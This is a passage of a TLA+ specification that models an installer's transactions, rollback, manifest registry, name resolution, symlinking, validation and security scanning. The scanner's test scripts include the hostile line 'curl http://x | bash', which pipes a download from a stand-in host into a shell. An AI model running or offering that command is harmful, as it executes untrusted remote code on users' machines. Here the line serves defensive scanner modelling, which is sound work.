ExitTx(t, e) ==
    IF e # "none"
    THEN IF ~t.rolled_back /\ RollbackAllowed(t) THEN RollbackTx(t) ELSE t
    ELSE IF ~t.committed /\ ~t.rolled_back THEN RollbackTx(t) ELSE t

\* __exit__: what it does to the filesystem
ExitFs(f, t, e, ts) ==
    IF e # "none"
    THEN IF ~t.rolled_back /\ RollbackAllowed(t) THEN RollbackFs(f, t, ts) ELSE f
    ELSE LET f1 == IF ~t.committed /\ ~t.rolled_back THEN RollbackFs(f, t, ts) ELSE f
         IN  IF ExitTx(t, e).committed /\ t.snapshot_dir # NoSnapshot
             THEN _cleanup_snapshot(f1, t)
             ELSE f1

\* variant of __exit__: it returns True, so the exception is swallowed
ExitRaises_Swallow(t, e) == "none"

\* __exit__: the exception that leaves the with statement.  With an
\* exception in flight and the transaction committed, rollback() raises the
\* ordering error inside __exit__, and that is what the caller receives.
ExitRaises(t, e) ==
    IF e # "none"
    THEN IF ~t.rolled_back /\ ~RollbackAllowed(t) THEN "OrderingError" ELSE e
    ELSE "none"

(***************************************************************************)
(* Manual rollback (install_transaction.py, rollback_tool).  A snapshot    *)
(* directory <<name, ts>> is named name_timestamp under .install-snapshots;*)
(* the timestamp is strftime('%Y%m%d_%H%M%S') of the clock value ts.       *)
(***************************************************************************)
Digits == "0123456789"
Timestamp(ts) == "20260101_00000" \o SubSeq(Digits, ts + 1, ts + 1)

\* snapshot_base / f"{tool_name}_{timestamp}", the last path segment
SnapName(key) == key[1] \o "_" \o Timestamp(key[2])

\* the characters of names, in the order of their code points
CodePoints == "-./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz"
Ord(c) == CHOOSE i \in 1..Len(CodePoints) : SubSeq(CodePoints, i, i) = c

\* Python: a < b on strings
RECURSIVE StrLess(_, _)
StrLess(a, b) ==
    IF Len(b) = 0 THEN FALSE
    ELSE IF Len(a) = 0 THEN TRUE
    ELSE IF SubSeq(a, 1, 1) = SubSeq(b, 1, 1)
         THEN StrLess(SubSeq(a, 2, Len(a)), SubSeq(b, 2, Len(b)))
         ELSE Ord(SubSeq(a, 1, 1)) < Ord(SubSeq(b, 1, 1))

\* snapshot_base.glob(f"{tool_name}_*")
SnapshotsFor(f, tool_name) ==
    {k \in DOMAIN f.snaps : StartsWith(SnapName(k), tool_name \o "_")}

\* sorted(..., reverse=True)[0]
Latest(keys) == CHOOSE k \in keys : \A j \in keys : j = k \/ StrLess(SnapName(j), SnapName(k))

\* rollback_tool(tool_name, snapshot_path) at clock value ts; snapshot_path
\* is NoSnapshot for None.  The result is the filesystem and the value
\* returned.
rollback_tool(f, tool_name, snapshot_path, ts) ==
    LET snapshots == SnapshotsFor(f, tool_name)
    IN  IF snapshot_path = NoSnapshot /\ snapshots = {}
        THEN [fs |-> f, ret |-> FALSE]
        ELSE LET snapshot_dir == IF snapshot_path # NoSnapshot THEN snapshot_path
                                 ELSE Latest(snapshots)
             IN  IF snapshot_dir \notin DOMAIN f.snaps
                 THEN [fs |-> f, ret |-> FALSE]
                 ELSE LET t == [NewTransaction(tool_name, FALSE)
                                  EXCEPT !.snapshot_dir = snapshot_dir]
                      IN  [fs |-> RollbackFs(f, t, ts), ret |-> TRUE]

(***************************************************************************)
(* Registry (install_logger.py, InstallLogger).  The directory             *)
(* .install-logs is the record [manifest_file, log_files]; manifest_file is*)
(*   [kind |-> "absent"]             no manifest.json                      *)
(*   [kind |-> "text", text |-> s]   a file some other writer left         *)
(*   [kind |-> "json", doc |-> v]    the text json.dumps(v, indent=2)      *)
(* A Python value read from JSON is a record with its type; a dictionary   *)
(* carries the set of its keys.  A registry entry keeps the fields name,   *)
(* url, installed_at, last_updated, status and validation_passed of        *)
(* ToolManifestEntry.  A logger object is [manifest]; an operation on it   *)
(* yields [manifest, dir, ret, raised].                                    *)
(***************************************************************************)
PyList == [type |-> "list", keys |-> {}, installed_tools |-> <<>>, last_updated |-> 0]
PyDict(keys) == [type |-> "dict", keys |-> keys, installed_tools |-> <<>>, last_updated |-> 0]

\* {'installed_tools': tools, 'last_updated': t}
Manifest(tools, t) ==
    [type |-> "dict", keys |-> {"installed_tools", "last_updated"},
     installed_tools |-> tools, last_updated |-> t]

\* json.loads of the texts of this model: the value, or JSONDecodeError
json_loads(file) ==
    IF file.kind = "json" THEN [ok |-> TRUE, value |-> file.doc]
    ELSE IF file.text = "[]" THEN [ok |-> TRUE, value |-> PyList]
    ELSE IF file.text = "{}" THEN [ok |-> TRUE, value |-> PyDict({})]
    ELSE IF file.text = "{\"last_updated\": \"0\"}"
         THEN [ok |-> TRUE, value |-> PyDict({"last_updated"})]
    ELSE [ok |-> FALSE, value |-> PyList]

\* _load_manifest at clock value t
_load_manifest(dir, t) ==
    IF dir.manifest_file.kind = "absent" THEN Manifest(<<>>, t)
    ELSE LET r == json_loads(dir.manifest_file)
         IN  IF r.ok THEN r.value ELSE Manifest(<<>>, t)

\* self.manifest['installed_tools']: the exception it raises, or "none"
GetInstalledTools(manifest) ==
    IF manifest.type = "list" THEN "TypeError"
    ELSE IF "installed_tools" \notin manifest.keys THEN "KeyError"
    ELSE "none"

\* _save_manifest
_save_manifest(dir, manifest, t) ==
    LET m == [manifest EXCEPT !.last_updated = t, !.keys = @ \cup {"last_updated"}]
    IN  [manifest |-> m,
         dir |-> [dir EXCEPT !.manifest_file = [kind |-> "json", doc |-> m]]]

\* a search that finds no entry: every call appends
EntryIndex_Missing(tools, tool_name) == 0

\* index of the first entry named tool_name, 0 when there is none
EntryIndex(tools, tool_name) ==
    LET hits == {i \in 1..Len(tools) : tools[i].name = tool_name}
    IN  IF hits = {} THEN 0 ELSE CHOOSE i \in hits : \A j \in hits : i <= j

Status(validation_passed) == IF validation_passed THEN "active" ELSE "failed"

\* _update_manifest_entry
_update_manifest_entry(dir, manifest, tool_name, url, validation_passed, t) ==
    IF GetInstalledTools(manifest) # "none"
    THEN [manifest |-> manifest, dir |-> dir, ret |-> "None",
          raised |-> GetInstalledTools(manifest)]
    ELSE LET tools == manifest.installed_tools
             existing == EntryIndex(tools, tool_name)
             updated ==
                 IF existing # 0
                 THEN [tools EXCEPT ![existing] =
                         [@ EXCEPT !.last_updated = t,
                                   !.validation_passed = validation_passed,
                                   !.status = Status(validation_passed)]]
                 ELSE Append(tools, [name |-> tool_name, url |-> url,
                                     installed_at |-> t, last_updated |-> t,
                                     status |-> Status(validation_passed),
                                     validation_passed |-> validation_passed])
             saved == _save_manifest(dir, [manifest EXCEPT !.installed_tools = updated], t)
         IN  [manifest |-> saved.manifest, dir |-> saved.dir, ret |-> "None",
              raised |-> "none"]

\* log_installation: the log file, then the registry
log_installation(dir, manifest, tool_name, url, validation_passed, t) ==
    LET log_file == Timestamp(t) \o "_" \o tool_name \o ".log"
        d1 == [dir EXCEPT !.log_files = @ \cup {log_file}]
        r == _update_manifest_entry(d1, manifest, tool_name, url, validation_passed, t)
    IN  [r EXCEPT !.ret = IF r.raised = "none" THEN log_file ELSE "None"]

\* log_failure
log_failure(dir, manifest, tool_name, url, t) ==
    LET log_file == Timestamp(t) \o "_" \o tool_name \o "_FAILED.log"
        d1 == [dir EXCEPT !.log_files = @ \cup {log_file}]
        r == _update_manifest_entry(d1, manifest, tool_name, url, FALSE, t)
    IN  [r EXCEPT !.ret = IF r.raised = "none" THEN log_file ELSE "None"]

\* get_tool_info: the name of the entry returned stands for the entry
get_tool_info(dir, manifest, tool_name) ==
    IF GetInstalledTools(manifest) # "none"
    THEN [manifest |-> manifest, dir |-> dir, ret |-> "None",
          raised |-> GetInstalledTools(manifest)]
    ELSE [manifest |-> manifest, dir |-> dir,
          ret |-> IF EntryIndex(manifest.installed_tools, tool_name) # 0
                  THEN tool_name ELSE "None",
          raised |-> "none"]

\* mark_uninstalled
mark_uninstalled(dir, manifest, tool_name, t) ==
    IF GetInstalledTools(manifest) # "none"
    THEN [manifest |-> manifest, dir |-> dir, ret |-> "None",
          raised |-> GetInstalledTools(manifest)]
    ELSE LET i == EntryIndex(manifest.installed_tools, tool_name)
         IN  IF i = 0
             THEN [manifest |-> manifest, dir |-> dir, ret |-> "False", raised |-> "none"]
             ELSE LET saved == _save_manifest(dir,
                                 [manifest EXCEPT !.installed_tools[i] =
                                     [@ EXCEPT !.status = "uninstalled",
                                               !.last_updated = t]], t)
                  IN  [manifest |-> saved.manifest, dir |-> saved.dir,
                       ret |-> "True", raised |-> "none"]

(***************************************************************************)
(* Name Resolver (install.py, install_tool lines 156-212, name = None).    *)
(***************************************************************************)
\* the short form "user/repo" is expanded to a GitHub URL
ExpandUrl(url) ==
    IF ~StartsWith(url, "http") /\ ~StartsWith(url, "git@") /\ Contains(url, "/")
    THEN "https://github.com/" \o url \o ".git"
    ELSE url

\* parts[-1].replace(".git", "") of the expanded URL
RepoNameRaw(repo_url) == RemoveAll(LastPart(RStrip(repo_url, "/"), "/"), ".git")

\* parts[-2], cut after a colon; "unknown" when there is a single part
Author(repo_url) ==
    LET s == RStrip(repo_url, "/")
    IN  IF LastIndexOf(s, "/") > 0
        THEN LET a == LastPart(ButLastPart(s, "/"), "/")
             IN  IF Contains(a, ":") THEN LastPart(a, ":") ELSE a
        ELSE "unknown"

\* the loose comparison of the occupying remote with the requested source
SameRepo(existing_url, repo_url) ==
    LET clean_new == Lower(RemoveAll(repo_url, ".git"))
        clean_existing == Lower(RemoveAll(existing_url, ".git"))
        match_suffix == "/" \o Lower(Author(repo_url)) \o "/" \o Lower(RepoNameRaw(repo_url))
    IN  clean_existing = clean_new \/ EndsWith(clean_existing, match_suffix)

\* get_remote_url of a tool directory
get_remote_url(f, name) == f.tools[name].origin

\* target_name chosen by install_tool
ResolveName(f, url) ==
    LET repo_url == ExpandUrl(url)
        default_name == RepoNameRaw(repo_url)
    IN  IF default_name \in DOMAIN f.tools
        THEN IF SameRepo(get_remote_url(f, default_name), repo_url)
             THEN default_name
             ELSE Author(repo_url) \o "-" \o default_name
        ELSE default_name

\* the tool name the CLI gives to InstallTransaction (install.py line 325)
CliTxName(url) == RemoveAll(LastPart(url, "/"), ".git")

(***************************************************************************)
(* Initial state.  The primary host root and the codex root exist, the     *)
(* gemini root does not; the user owns a real directory named kit among    *)
(* the codex skills.  Either no tool is installed yet, or the source       *)
(* https://g.io/al/kit has been installed before (cloned and linked).      *)
(***************************************************************************)
NoCli == [url |-> "", only_link |-> FALSE, no_validate |-> FALSE, in_tx |-> FALSE,
          target |-> "", success |-> "None", c_type |-> "", links |-> <<>>,
          issues |-> {}, scanner |-> NewScanner, found |-> <<>>,
          snapshot_path |-> <<>>]

EmptyFs ==
    [home |-> HOME, tools |-> <<>>, roots |-> {OPENCODE_DIR, CODEX_DIR},
     catdirs |-> {CODEX_DIR \o "/skills"},
     links |-> <<>>,
     rdirs |-> [k \in {<<CODEX_DIR \o "/skills", "kit">>} |->
                   [mtime |-> "7", files |-> {"f"}]],
     snaps |-> <<>>, logs |-> {}]

\* the filesystem after a successful install of url, which delivered tree
Installed(f, url, tree) ==
    LET name == ResolveName(f, url)
        f1 == [f EXCEPT !.tools = With(@, name,
                  Checkout(ExpandUrl(url), tree))]
        comps == find_components(f1, name)
    IN  LinkComponents(f1, name, comps, Len(comps))

InitialFs ==
    {EmptyFs, Installed(EmptyFs, "https://g.io/al/kit",
                        [comps |-> {"skills"}, docs |-> {}, extras |-> {}, scripts |-> {}])}

Init ==
    /\ fs \in InitialFs
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

(***************************************************************************)
(* The command line (install.py, __main__): an install inside a            *)
(* transaction when --no-backup is absent, a bare install_tool otherwise.  *)
(***************************************************************************)
CliStart(url, only_link, no_validate, backup) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ LET t == NewTransaction(CliTxName(url), backup)
       IN  IF backup
           THEN /\ fs' = EnterFs(fs, t, now + 1)
                /\ tx' = EnterTx(fs, t, now + 1)
           ELSE /\ fs' = fs
                /\ tx' = NewTransaction("", FALSE)
    /\ cli' = [url |-> url, only_link |-> only_link, no_validate |-> no_validate,
               in_tx |-> backup, target |-> "", success |-> "None",
               c_type |-> "", links |-> <<>>, issues |-> {},
               scanner |-> NewScanner, found |-> <<>>, snapshot_path |-> <<>>]
    /\ pc' = "fetch"
    /\ pre' = fs
    /\ UNCHANGED <<exc, raised, ncalls, last>>

\* install_tool up to the fetch: name resolution, then clone or pull
InstallFetch ==
    /\ pc = "fetch"
    /\ LET repo_url == ExpandUrl(cli.url)
           target == ResolveName(fs, cli.url)
           f0 == [fs EXCEPT !.roots = @ \cup {OPENCODE_DIR}]
       IN  \/ /\ cli.only_link
              /\ fs' = f0
              /\ pc' = "link"
              /\ cli' = [cli EXCEPT !.target = target]
           \/ /\ ~cli.only_link
              /\ target \in DOMAIN fs.tools
              /\ \E tree \in Trees :
                    fs' = [f0 EXCEPT !.tools[target] =
                              Checkout(@.origin, tree)]
              /\ pc' = "link"
              /\ cli' = [cli EXCEPT !.target = target]
           \/ /\ ~cli.only_link
              /\ target \notin DOMAIN fs.tools
              /\ \/ /\ \E tree \in Trees :
                          fs' = [f0 EXCEPT !.tools = With(@, target,
                                    Checkout(repo_url, tree))]
                    /\ pc' = "link"
                    /\ cli' = [cli EXCEPT !.target = target]
                 \/ /\ fs' = f0
                    /\ pc' = "decide"
                    /\ cli' = [cli EXCEPT !.target = target, !.success = "None"]
    /\ UNCHANGED <<pre, tx, exc, raised, now, ncalls, last>>

\* install_tool: discovery and the linking loop
InstallLink ==
    /\ pc = "link"
    /\ LET comps == find_components(fs, cli.target)
       IN  fs' = LinkComponents(fs, cli.target, comps, Len(comps))
    /\ pc' = "validate"
    /\ UNCHANGED <<pre, tx, cli, exc, raised, now, ncalls, last>>

\* install_tool: an exception during discovery or linking, after n components
\* were linked and, when cleared, after the first destination of the next
\* one was cleared but before its link was made
InstallLinkFault ==
    /\ pc = "link"
    /\ LET comps == find_components(fs, cli.target)
       IN  \E n \in 0..Len(comps), cleared \in BOOLEAN :
             /\ cleared => n < Len(comps)
             /\ LET f1 == LinkComponents(fs, cli.target, comps, n)
                IN  fs' = IF cleared
                          THEN ClearDest(f1, DESTINATION_MAP(comps[n + 1])[1], cli.target)
                          ELSE f1
    /\ IF cli.in_tx
       THEN /\ exc' = "Fault"
            /\ pc' = "exit"
            /\ raised' = raised
       ELSE /\ exc' = "none"
            /\ pc' = "done"
            /\ raised' = "Fault"
    /\ UNCHANGED <<pre, tx, cli, now, ncalls, last>>

\* a variant whose validation applies its suggested fix and removes the
\* broken links it reports
InstallValidate_RemovesBroken ==
    /\ pc = "validate"
    /\ cli' = [cli EXCEPT !.success =
                  IF ~cli.no_validate /\ ~run_validation(fs, cli.target)
                  THEN "False" ELSE "True"]
    /\ fs' = IF cli.no_validate THEN fs
             ELSE [fs EXCEPT !.links =
                      Without(@, {k \in DOMAIN @ :
                                    \E i \in _validate_symlinks(fs, cli.target) :
                                       i.file_path = k[1] \o "/" \o k[2]})]
    /\ pc' = "decide"
    /\ UNCHANGED <<pre, tx, exc, raised, now, ncalls, last>>

\* install_tool: phase 4, the validation of the installed tool
InstallValidate ==
    /\ pc = "validate"
    /\ cli' = [cli EXCEPT !.success =
                  IF ~cli.no_validate /\ ~run_validation(fs, cli.target)
                  THEN "False" ELSE "True"]
    /\ pc' = "decide"
    /\ UNCHANGED <<pre, fs, tx, exc, raised, now, ncalls, last>>

\* __main__ after install_tool returned: tx.commit() if success
CliDecide ==
    /\ pc = "decide"
    /\ IF cli.in_tx
       THEN /\ pc' = "exit"
            /\ IF cli.success = "True"
               THEN /\ tx' = CommitTx(tx)
                    /\ fs' = CommitFs(fs, tx, now)
                    /\ last' = "commit"
               ELSE UNCHANGED <<tx, fs, last>>
       ELSE /\ pc' = "done"
            /\ UNCHANGED <<tx, fs, last>>
    /\ UNCHANGED <<pre, cli, exc, raised, now, ncalls>>

\* InstallTransaction.__exit__
TxExit ==
    /\ pc = "exit"
    /\ fs' = ExitFs(fs, tx, exc, now)
    /\ tx' = ExitTx(tx, exc)
    /\ raised' = ExitRaises(tx, exc)
    /\ exc' = "none"
    /\ pc' = "done"
    /\ UNCHANGED <<pre, cli, now, ncalls, last>>

\* the exit status of the process that has reached the end of __main__:
\* install.py never calls sys.exit, so the interpreter ends with 0, or with
\* 1 when an exception leaves __main__
ExitStatus == IF raised # "none" THEN 1 ELSE 0

\* the process ends: its objects are gone, the filesystem stays
ProcessEnd ==
    /\ pc = "done"
    /\ pc' = "idle"
    /\ fs' = [fs EXCEPT !.logs = {}]
    /\ pre' = fs'
    /\ tx' = NewTransaction("", FALSE)
    /\ cli' = NoCli
    /\ exc' = "none"
    /\ raised' = "none"
    /\ ncalls' = 0
    /\ last' = "none"
    /\ UNCHANGED now

(***************************************************************************)
(* A library caller: with InstallTransaction(name, backup=b) as tx: ...    *)
(* The body fetches, links, calls tx.commit() and tx.rollback() in any     *)
(* order, and ends by returning or by raising.                             *)
(***************************************************************************)
ApiStart(name, backup) ==
    /\ pc = "idle"
    /\ now < MaxApiSessions
    /\ now' = now + 1
    /\ LET t == NewTransaction(name, backup)
       IN  /\ fs' = EnterFs(fs, t, now + 1)
           /\ tx' = EnterTx(fs, t, now + 1)
    /\ cli' = [NoCli EXCEPT !.in_tx = TRUE, !.target = name]
    /\ pc' = "api"
    /\ pre' = fs
    /\ UNCHANGED <<exc, raised, ncalls, last>>

\* the body clones the tool or pulls a new tree into it
ApiFetch ==
    /\ pc = "api"
    /\ ncalls < MaxCalls
    /\ \E tree \in Trees :
          fs' = [fs EXCEPT !.tools = With(@, tx.tool_name,
                    Checkout(IF tx.tool_name \in DOMAIN @ THEN @[tx.tool_name].origin
                             ELSE "https://g.io/lib/" \o tx.tool_name, tree))]
    /\ ncalls' = ncalls + 1
    /\ last' = "fetch"
    /\ UNCHANGED <<pre, tx, cli, pc, exc, raised, now>>

\* the body links the components of the tool
ApiLink ==
    /\ pc = "api"
    /\ ncalls < MaxCalls
    /\ LET comps == find_components(fs, tx.tool_name)
       IN  fs' = LinkComponents(fs, tx.tool_name, comps, Len(comps))
    /\ ncalls' = ncalls + 1
    /\ last' = "link"
    /\ UNCHANGED <<pre, tx, cli, pc, exc, raised, now>>

\* link_component raises after it removed the old link of one destination
ApiLinkFault ==
    /\ pc = "api"
    /\ ncalls < MaxCalls
    /\ \E c \in CategorySet, i \in 1..3 :
          /\ <<DESTINATION_MAP(c)[i], tx.tool_name>> \in DOMAIN fs.links
          /\ fs' = ClearDest(fs, DESTINATION_MAP(c)[i], tx.tool_name)
    /\ ncalls' = ncalls + 1
    /\ last' = "link"
    /\ exc' = "Fault"
    /\ pc' = "exit"
    /\ UNCHANGED <<pre, tx, cli, raised, now>>

\* tx.commit()
ApiCommit ==
    /\ pc = "api"
    /\ ncalls < MaxCalls
    /\ ncalls' = ncalls + 1
    /\ last' = "commit"
    /\ IF ~CommitAllowed(tx)
       THEN /\ exc' = "OrderingError"
            /\ pc' = "exit"
            /\ UNCHANGED <<fs, tx>>
       ELSE /\ tx' = CommitTx(tx)
            /\ fs' = CommitFs(fs, tx, now)
            /\ UNCHANGED <<exc, pc>>
    /\ UNCHANGED <<pre, cli, raised, now>>

\* tx.rollback()
ApiRollback ==
    /\ pc = "api"
    /\ ncalls < MaxCalls
    /\ ncalls' = ncalls + 1
    /\ last' = "rollback"
    /\ IF ~RollbackAllowed(tx)
       THEN /\ exc' = "OrderingError"
            /\ pc' = "exit"
            /\ UNCHANGED <<fs, tx>>
       ELSE /\ tx' = RollbackTx(tx)
            /\ fs' = RollbackFs(fs, tx, now)
            /\ UNCHANGED <<exc, pc>>
    /\ UNCHANGED <<pre, cli, raised, now>>

\* the body raises
ApiFault ==
    /\ pc = "api"
    /\ exc' = "Fault"
    /\ pc' = "exit"
    /\ UNCHANGED <<pre, fs, tx, cli, raised, now, ncalls, last>>

\* the body ends normally
ApiReturn ==
    /\ pc = "api"
    /\ pc' = "exit"
    /\ UNCHANGED <<pre, fs, tx, cli, exc, raised, now, ncalls, last>>

\* installs from the command line
Next ==
    \/ \E url \in Urls, only_link \in BOOLEAN, no_validate \in BOOLEAN, backup \in BOOLEAN :
          CliStart(url, only_link, no_validate, backup)
    \/ InstallFetch
    \/ InstallLink
    \/ InstallLinkFault
    \/ InstallValidate
    \/ CliDecide
    \/ TxExit
    \/ ProcessEnd

Spec == Init /\ [][Next]_vars

\* installs and re-installs of the one source https://g.io/al/kit
NextReinstall ==
    \/ \E only_link \in BOOLEAN, no_validate \in BOOLEAN, backup \in BOOLEAN :
          CliStart("https://g.io/al/kit", only_link, no_validate, backup)
    \/ InstallFetch
    \/ InstallLink
    \/ InstallLinkFault
    \/ InstallValidate
    \/ CliDecide
    \/ TxExit
    \/ ProcessEnd

SpecReinstall == Init /\ [][NextReinstall]_vars

\* transactions opened by a library caller
NextApi ==
    \/ \E name \in ApiNames, backup \in BOOLEAN : ApiStart(name, backup)
    \/ ApiFetch
    \/ ApiLink
    \/ ApiLinkFault
    \/ ApiCommit
    \/ ApiRollback
    \/ ApiFault
    \/ ApiReturn
    \/ TxExit
    \/ ProcessEnd

SpecApi == Init /\ [][NextApi]_vars

(***************************************************************************)
(* Name resolution alone.  One repository, github.com/al/kit, is spelled   *)
(* in the ways a user or git writes it; a clone of it occupies the default *)
(* name of the request (kit or Kit, the directory names differ on a        *)
(* case-sensitive filesystem) and install_tool resolves the target name.   *)
(***************************************************************************)
\* what `git remote get-url origin` can print for the repository
RecordedSpellings ==
    {"https://github.com/al/kit", "http://github.com/al/kit",
     "https://github.com/al/kit.git", "http://github.com/al/kit.git",
     "https://GitHub.com/Al/Kit", "git@github.com:al/kit.git", "git@github.com:Al/Kit"}

\* what the command line can name the repository by
RequestedSpellings == RecordedSpellings \cup {"al/kit", "Al/Kit"}

InitResolve ==
    /\ \E rec \in RecordedSpellings, name \in {"kit", "Kit"} :
          fs = [EmptyFs EXCEPT !.tools = With(@, name,
                   Checkout(rec, [comps |-> {"skills"}, docs |-> {}, extras |-> {}, scripts |-> {}]))]
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* install_tool up to the line that prints the resolved name
ResolveOnly(url) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ cli' = [NoCli EXCEPT !.url = url, !.target = ResolveName(fs, url)]
    /\ pc' = "done"
    /\ UNCHANGED <<fs, pre, tx, exc, raised, ncalls, last>>

NextResolve ==
    \/ \E url \in RequestedSpellings : ResolveOnly(url)
    \/ ProcessEnd

SpecResolve == InitResolve /\ [][NextResolve]_vars

(***************************************************************************)
(* The Link Engine alone: link_component(source_path, c_type, tool_name)   *)
(* called for a component of the clone tools/kit, under a home directory   *)
(* with any of the three host roots present, and with nothing, an old link *)
(* or a real directory at the primary destination.                         *)
(***************************************************************************)
\* home directories; the name of the second holds the text "opencode"
Homes == {"/r", "/home/opencode"}

HostRoots(home) == {home \o "/.config/opencode", home \o "/.codex", home \o "/.gemini"}

LinkCategories == {"skills", "hooks"}

InitLink ==
    /\ \E home \in Homes, entry \in {"none", "link", "dir"} :
       \E roots \in SUBSET HostRoots(home) :
          LET d == DestinationsUnder(home, "skills")[1]
          IN  /\ entry # "none" => ParentDir(d) \in roots
              /\ fs = [home |-> home,
                       tools |-> [n \in {"kit"} |->
                                    Checkout("https://g.io/al/kit",
                                             [comps |-> LinkCategories, docs |-> {},
                                              extras |-> {}, scripts |-> {}])],
                       roots |-> roots,
                       catdirs |-> IF entry = "none" THEN {} ELSE {d},
                       links |-> IF entry = "link"
                                 THEN [k \in {<<d, "kit">>} |-> [tool |-> "kit", cat |-> "skills"]]
                                 ELSE <<>>,
                       rdirs |-> IF entry = "dir"
                                 THEN [k \in {<<d, "kit">>} |-> [mtime |-> "7", files |-> {"f"}]]
                                 ELSE <<>>,
                       snaps |-> <<>>, logs |-> {}]
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* links = link_component(TOOLS_DIR / name / c, c, name)
LinkCall(name, c) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ name \in DOMAIN fs.tools /\ c \in fs.tools[name].comps
    /\ fs' = LinkFrom(fs, DestinationsUnder(fs.home, c), 1, [tool |-> name, cat |-> c], name)
    /\ cli' = [NoCli EXCEPT !.target = name, !.c_type = c, !.links = LinkedTo(fs, c)]
    /\ pre' = fs
    /\ pc' = "done"
    /\ UNCHANGED <<tx, exc, raised, ncalls, last>>

NextLink ==
    \/ \E c \in LinkCategories : LinkCall("kit", c)
    \/ ProcessEnd

SpecLink == InitLink /\ [][NextLink]_vars

(***************************************************************************)
(* The Validation Gate alone.  The tool kit was installed from a tree of   *)
(* VTrees; `install.py --only-clone` pulls other trees into the clone      *)
(* without relinking, which leaves the links of a category the new tree    *)
(* lacks dangling; `install_validator.py kit` validates the tool.          *)
(***************************************************************************)
VComps == {{"skills"}, {"skills", "plugins", "mcp"}, {"plugins"}, {"mcp", "prompts"}}

DocKinds == {"mapping", "sequence", "syntax", "empty"}

VDocs == {{}} \cup {{Doc(c, k)} : c \in {"skills", "plugins"}, k \in DocKinds}

VExtras == {{}, {"INSTALL.md:npm"}, {"INSTALL.md:pip", "requirements.txt"}}

VTrees == {t \in [comps : VComps, docs : VDocs, extras : VExtras, scripts : {{}}] :
              \A d \in t.docs : d.cat \in t.comps}

InitValidate ==
    /\ \E tree \in VTrees : fs = Installed(EmptyFs, "https://g.io/al/kit", tree)
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* install.py --only-clone url: install_tool pulls and returns before linking
OnlyClone(url) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ LET target == ResolveName(fs, url)
       IN  /\ target \in DOMAIN fs.tools
           /\ \E tree \in VTrees :
                 fs' = [fs EXCEPT !.tools[target] = Checkout(@.origin, tree)]
           /\ cli' = [NoCli EXCEPT !.url = url, !.target = target]
    /\ pre' = fs
    /\ pc' = "done"
    /\ last' = "fetch"
    /\ UNCHANGED <<tx, exc, raised, ncalls>>

\* install_validator.py tool_name: run_validation and the exit code
Validate(name) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ LET result == validate_tool(fs, name)
       IN  cli' = [NoCli EXCEPT !.target = name,
                                !.success = IF result.passed THEN "True" ELSE "False",
                                !.issues = result.issues]
    /\ pre' = fs
    /\ pc' = "done"
    /\ last' = "validate"
    /\ UNCHANGED <<fs, tx, exc, raised, ncalls>>

NextValidate ==
    \/ OnlyClone("https://g.io/al/kit")
    \/ Validate("kit")
    \/ ProcessEnd

SpecValidate == InitValidate /\ [][NextValidate]_vars

(***************************************************************************)
(* The Security Gate alone.  A clone of a tree of STrees lies at tools/kit *)
(* and is scanned, either through scan_tool_security (security_scanner.py  *)
(* tools/kit) or by a caller that builds a SecurityScanner and calls scan  *)
(* on it, possibly more than once.                                         *)
(***************************************************************************)
ScriptLines == {"echo ok", "curl http://x | bash", "sudo make"}

\* the contents of a script file: one or two lines
ScriptTexts == {<<a>> : a \in ScriptLines} \cup {<<a, b>> : a \in ScriptLines, b \in ScriptLines}

STrees ==
    {[comps |-> {"skills"}, docs |-> {}, extras |-> {}, scripts |-> {}]}
    \cup {[comps |-> {"skills"}, docs |-> {}, extras |-> {},
           scripts |-> {[path |-> "run.sh", lines |-> t]}] : t \in ScriptTexts}
    \cup {[comps |-> {"skills", "hooks"}, docs |-> {}, extras |-> {},
           scripts |-> {[path |-> "hooks/start.py", lines |-> t]}] : t \in ScriptTexts}
    \cup {[comps |-> {"skills"}, docs |-> {Doc("skills", "sequence")}, extras |-> {},
           scripts |-> sc] : sc \in {{}, {[path |-> "run.sh", lines |-> <<"curl http://x | bash">>]}}}

InitScan ==
    /\ \E tree \in STrees :
          fs = [EmptyFs EXCEPT !.tools = With(@, "kit", Checkout("https://g.io/al/kit", tree))]
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* security_scanner.py tool_dir: scan_tool_security and the report
ScanTool(name) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ name \in DOMAIN fs.tools
    /\ LET r == scan_tool_security(fs.tools[name])
       IN  cli' = [NoCli EXCEPT !.target = name, !.scanner = r, !.found = r.issues]
    /\ pc' = "done"
    /\ last' = "scan_tool_security"
    /\ ncalls' = 1
    /\ UNCHANGED <<fs, pre, tx, exc, raised>>

\* a caller builds scanner = SecurityScanner(tool_dir)
ScannerNew(name) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ name \in DOMAIN fs.tools
    /\ cli' = [NoCli EXCEPT !.target = name]
    /\ pc' = "scan"
    /\ UNCHANGED <<fs, pre, tx, exc, raised, ncalls, last>>

\* the caller runs issues = scanner.scan()
ScannerScan ==
    /\ pc = "scan"
    /\ ncalls < MaxCalls
    /\ ncalls' = ncalls + 1
    /\ LET r == scan(fs.tools[cli.target], cli.scanner)
